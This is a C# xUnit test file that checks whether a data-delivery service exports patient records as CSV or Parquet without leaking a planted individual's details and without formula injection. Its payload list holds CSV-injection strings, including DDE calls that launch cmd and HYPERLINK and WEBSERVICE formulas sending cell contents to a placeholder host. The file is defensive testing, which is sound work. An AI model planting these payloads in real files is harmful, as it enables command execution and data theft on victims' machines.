using System.Globalization;
using System.Text;
using Shouldly;
using Xunit;
using Yuanliu.Contracts;
using Yuanliu.Engines.DuckDb;
using Yuanliu.Tests.Attacks.Counting;

namespace Yuanliu.Tests.Attacks.Doors;

/// <summary>文件交付的攻击 — a file holds what is agreed, within its bounds, and nothing that a spreadsheet would carry out.</summary>
public sealed class FileDoorTests(DoorArena arena) : IClassFixture<DoorArena>
{
    static readonly int People = Patients.CrowdSize * 3 / 2 + Victim.Count;

    public static TheoryData<int> Victims => [.. Enumerable.Range(0, 20)];

    /// <summary>An outlier is the bound, and who has it is not named; in text as in Parquet.</summary>
    [Theory]
    [MemberData(nameof(Victims))]
    [Cases(AttackClass.Extremes, By = AttackDoor.File)]
    public async Task Nothing_beyond_its_bound_and_nobody_is_in_a_file(int number)
    {
        var victim = Victim.Of(number);
        foreach (var world in (World[])[World.First, World.Second])
        {
            var rows = await Rows(arena.Enter(world, DoorArena.Gateway), number % 2 == 0 ? "Csv" : "Parquet");
            rows.Count.ShouldBe(People);
            var cells = rows.SelectMany(r => r).Select(Trial.Text).ToHashSet();
            foreach (var planted in (string[])[$"{victim.Cost(world)}", victim.Id, "x", Victim.FirstDiagnosis, Victim.SecondDiagnosis])
                cells.ShouldNotContain(planted);
            rows.Max(r => Convert.ToDecimal(r[4], CultureInfo.InvariantCulture)).ShouldBe(DoorArena.CostMax);
        }
        Proof.Tried();
        await arena.ShouldShowRows();
    }

    /// <summary>What a spreadsheet takes for a formula, a link or a command.</summary>
    public static TheoryData<string> Formulas =>
    [
        "=1+1", "=HYPERLINK(\"http://x/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=cmd|' /C notepad'!A1", "\t=1+1", "\r=1+1",
        "=IMPORTXML(\"http://x\",\"//a\")", "=WEBSERVICE(\"http://x/\"&A1)", "＝1+1", "＋1", "－1+2", "＠SUM(A1)", "=1\n+1", "=\"a\";\"b\"",
        "@@", "=+-", "+", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=RTD(\"x\",\"\")", "  =1+1", "\"=1+1\"", "';=1",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    [Cases(AttackClass.TemplateInjection, By = AttackDoor.File)]
    public async Task What_a_holder_wrote_is_carried_out_by_no_spreadsheet(string formula)
    {
        var csv = new StringBuilder(Patients.Csv(World.First));
        for (var i = 0; i < 40; i++)
            csv.Append(CultureInfo.InvariantCulture, $"\"{formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",{20 + i % 9},女,流感,")
                .Append(CultureInfo.InvariantCulture, $"2026-01-15,{1000 + i},3,f{i},x\n");
        var id = arena.Keep(Arena.Holder, csv.ToString(), Patients.Columns);
        var attacker = arena.Sign(arena.Enter(World.Without).Buyer, id, DoorArena.Gateway);
        foreach (var format in (string[])["Csv", "Parquet"])
        {
            var texts = (await Rows(attacker, format)).SelectMany(r => r).OfType<string>().Distinct().ToList();
            texts.Count.ShouldBeGreaterThan(6);
            texts.ShouldAllBe(t => !"=+-@\t\r＝＋－＠".Contains(t[0]), formula);
        }
        Proof.Tried();
        await arena.ShouldShowRows();
    }

    /// <summary>The rows of a file as a program reads them.</summary>
    static async Task<IReadOnlyList<object?[]>> Rows(Attacker who, string format)
    {
        var made = await who.Deliver(format);
        made.IsAnswer.ShouldBeTrue(made.Said);
        var path = Path.GetTempFileName();
        try
        {
            await File.WriteAllBytesAsync(path, await who.Fetch(made));
            using var database = Database.Open(new() { ExternalAccess = true, Threads = 1 }).OrThrow();
            using var connection = database.Connect();
            var read = format is "Csv" ? "read_csv({0}, header = true, delim = ',', quote = '\"', escape = '\"', all_varchar = true)"
                : "read_parquet({0})";
            return connection.ReadAll($"SELECT * FROM {read.Replace("{0}", Sql.Text(path), StringComparison.Ordinal)}", 10_000)
                .OrThrow().Rows;
        }
        finally { File.Delete(path); }
    }
}
